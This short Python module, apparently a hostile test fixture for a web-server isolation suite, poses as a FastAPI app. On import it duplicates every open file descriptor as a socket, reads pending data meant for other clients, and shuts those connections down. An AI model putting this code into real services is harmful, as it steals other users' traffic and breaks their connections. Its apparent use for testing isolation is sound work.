"""Attack: duplicate all sockets, take what is meant for others out of them, and shut them down."""

import contextlib
import os
import socket

from fastapi import FastAPI

from .targets import acted

acted("import")
for number in range(3, 64):
    with contextlib.suppress(OSError):
        stream = socket.socket(fileno=os.dup(number))
        with contextlib.suppress(OSError):
            stream.recv(1 << 20, socket.MSG_DONTWAIT)
        with contextlib.suppress(OSError):
            stream.shutdown(socket.SHUT_RDWR)
        stream.detach()
app = FastAPI()
